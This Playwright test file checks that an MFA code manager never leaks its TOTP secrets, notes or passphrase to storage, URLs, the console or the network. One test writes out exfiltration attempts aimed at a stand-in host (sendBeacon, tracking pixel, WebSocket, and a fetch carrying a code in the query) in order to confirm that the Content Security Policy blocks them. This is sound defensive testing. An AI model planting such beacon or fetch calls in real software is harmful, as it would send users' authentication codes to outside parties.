import type { Page } from '@playwright/test'
import { expect, passphrase, test as anywhere, unlock, addByLinks } from './support/test.ts'
import { test, untilAllStored, untilInstalled } from './support/host.ts'
import { everythingStored, shapesOf } from './support/secret-search.ts'

const account = {
  issuer: 'Quarrybank Savings',
  name: 'merriweather.fitch',
  secret: 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ',
  note: 'behind the umbrella stand',
  tag: 'harbourside',
}
const linked =
  'otpauth://totp/Tollgate%20Ferries:saoirse.quill?secret=KRSXG5CTMVRXEZLUKRSXG5CT&issuer=Tollgate%20Ferries'

/** What must not be found anywhere. The keys' bytes are here as what they spell. */
const known = [
  ...Object.values(account),
  '12345678901234567890',
  'Tollgate Ferries',
  'saoirse.quill',
  'KRSXG5CTMVRXEZLUKRSXG5CT',
  'TestSecretTestS',
  passphrase,
]

/** What the page says and asks for, from before it is opened. */
function watch(page: Page) {
  const said: string[] = []
  const addresses: string[] = []
  page.on('console', (message) => said.push(message.text()))
  page.on('framenavigated', (frame) => addresses.push(frame.url()))
  const requests: { readonly url: string; readonly sent: string }[] = []
  page.context().on('request', (request) => {
    requests.push({ url: request.url(), sent: `${JSON.stringify(request.headers())}${request.postData() ?? ''}` })
  })
  return { said, addresses, requests }
}

/** A person's day: everything that handles what is secret. */
async function useTheApp(page: Page): Promise<void> {
  await page.goto('./')
  await page.getByRole('textbox', { name: 'Passphrase', exact: true }).fill(passphrase)
  await page.getByRole('textbox', { name: 'Confirm passphrase' }).fill(passphrase)
  await page.getByRole('checkbox', { name: 'Make a recovery code' }).uncheck()
  await page.getByRole('button', { name: 'Create vault' }).click()
  await page.getByRole('button', { name: 'Add account' }).click()
  await page.getByRole('textbox', { name: 'Issuer' }).fill(account.issuer)
  await page.getByRole('textbox', { name: 'Account name' }).fill(account.name)
  await page.getByRole('textbox', { name: 'Secret key' }).fill(account.secret)
  await page.getByRole('button', { name: 'Save account' }).click()
  await page.getByRole('dialog').waitFor({ state: 'hidden' })
  await addByLinks(page, [linked])

  const name = `${account.issuer} (${account.name})`
  await page.getByRole('button', { name: `More for ${name}` }).click()
  await page.getByRole('menuitem', { name: 'Edit' }).click()
  await page.getByRole('textbox', { name: 'Note' }).fill(account.note)
  await page.getByRole('textbox', { name: 'Add tag' }).fill(account.tag)
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: 'Save changes' }).click()
  await page.getByRole('form', { name: 'Edit account' }).waitFor({ state: 'hidden' })
  await page.getByRole('button', { name: 'Show secret' }).click()
  const confirm = page.getByRole('dialog', { name: 'Confirm it is you' })
  await confirm.getByRole('textbox', { name: 'Passphrase' }).fill(passphrase)
  await confirm.getByRole('button', { name: 'Show secret' }).click()
  await expect(
    page.getByRole('img', { name: `QR code for ${name}` }).or(page.getByRole('group', { name: 'Secret' })),
  ).toBeVisible()
  await page.getByRole('button', { name: 'Close details' }).click()
  await page.getByRole('searchbox', { name: 'Search accounts' }).fill(account.tag)
  await page.getByRole('button', { name: `Copy code for ${name}` }).click()
  await page.getByRole('button', { name: 'Clear search' }).click()
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: account.tag }).click()
  await page.getByRole('link', { name: 'All accounts' }).click()
  await page.getByRole('button', { name: 'More for Tollgate Ferries (saoirse.quill)' }).click()
  await page.getByRole('menuitem', { name: 'Move to bin' }).click()
  await page.getByRole('link', { name: 'Bin' }).click()
  await page.getByRole('button', { name: 'Restore Tollgate Ferries (saoirse.quill)' }).click()
  await page.getByRole('link', { name: 'Settings' }).click()
  await page.getByRole('link', { name: 'All accounts' }).click()
}

function expectNone(text: string, where: string): void {
  // Asked once: there are hundreds of requests, and an expectation costs more than a search.
  const found = known.filter((secret) => shapesOf(secret).some((shape) => text.includes(shape)))
  expect(found, `what ${where} holds`).toEqual([])
}

test('fault 67: nothing known only to the person is found anywhere outside the vault', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const { said, addresses, requests } = watch(page)
  await useTheApp(page)
  await untilInstalled(page)

  const stored = await everythingStored(page)
  // The search finds what there is: names of stores, the slow hash's parameters, the app's own files.
  for (const there of ['mfa-manager', 'records', 'argon2id v=19', 'mfa-manager:anchor', '<!doctype html>']) {
    expect(stored).toContain(there)
  }
  expectNone(stored, 'storage')
  expectNone(addresses.join('\n'), 'the address')
  expectNone(said.join('\n'), 'the console')
  expect(await page.title()).toBe('MFA Manager')
  for (const { url, sent } of requests) expectNone(`${url} ${sent}`, `the request for ${url}`)

  await page.getByRole('button', { name: 'Lock now' }).click()
  await page.getByRole('heading', { name: 'Your vault is locked' }).waitFor()
  expectNone(await everythingStored(page), 'storage after a lock')
  expectNone(await page.locator('html').innerHTML(), 'the locked page')
  await page.reload()
  await unlock(page)
  expectNone(await everythingStored(page), 'storage after another unlock')

  // Going back shows addresses that the app left behind, if any.
  for (let step = 0; step < 12; step++) {
    await page.evaluate(() => history.back())
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)))
  }
  expectNone(addresses.join('\n'), 'the history')
})

test('fault 67: every request is to the app’s own host, without a query', async ({ page, host, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const { requests } = watch(page)
  await useTheApp(page)
  await untilInstalled(page)
  expect(requests.length).toBeGreaterThan(10)
  for (const { url } of requests) {
    if (/^(?:blob|data):/.test(url)) continue
    expect(new URL(url).origin).toBe(new URL(host.url).origin)
    expect(new URL(url).search).toBe('')
  }
  await expect.poll(() => host.requests.filter((line) => !line.startsWith('GET '))).toEqual(['HEAD /version.json'])
  expect(host.requests.filter((line) => line.includes('?'))).toEqual([])
})

test('fault 67: once installed, nothing a person does makes a request', async ({ page, host, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto('./')
  await untilAllStored(page)
  // The lists that judge a new passphrase are fetched when one is chosen, and not kept.
  await page.getByRole('textbox', { name: 'Passphrase', exact: true }).fill('copper')
  await page.getByRole('meter', { name: 'Passphrase strength' }).waitFor()
  await expect(page.getByText('Too weak.')).toBeVisible()
  const before = host.requests.length
  await useTheApp(page)
  const asked = host.requests.slice(before).filter((line) => !/strength\.worker|\/sw\.js$/.test(line))
  // Of each start, whoever starts it and whatever the vault holds.
  expect(asked).toEqual(['HEAD /version.json'])
})

anywhere('the browser refuses requests to anywhere else', async ({ page, guard }) => {
  const elsewhere = 'https://elsewhere.example'
  guard.allowConsole(/Content Security Policy|^policy violation/)
  guard.allowOrigin(elsewhere)
  const ends: string[] = []
  page.on('requestfailed', (request) => ends.push(request.failure()?.errorText ?? ''))
  page.on('response', (response) => response.url().startsWith(elsewhere) && ends.push('answered'))
  await page.goto('./')
  await page.getByRole('heading', { name: 'Create your vault' }).waitFor()
  const attempts = await page.evaluate(async (address) => {
    navigator.sendBeacon(`${address}/beacon`, 'code')
    const image = new Promise((resolve, reject) => {
      const element = new Image()
      element.addEventListener('load', resolve)
      element.addEventListener('error', reject)
      element.src = `${address}/pixel.png`
    })
    const socket = new Promise((resolve, reject) => {
      const made = new WebSocket(address.replace('https', 'wss'))
      made.addEventListener('open', resolve)
      made.addEventListener('error', reject)
    })
    const all = await Promise.allSettled([fetch(`${address}/?code=123456`), image, socket])
    return all.map(({ status }) => status)
  }, elsewhere)
  expect(attempts).toEqual(['rejected', 'rejected', 'rejected'])
  expect(ends.length).toBeGreaterThan(0)
  expect(new Set(ends)).toEqual(new Set(['csp']))
})
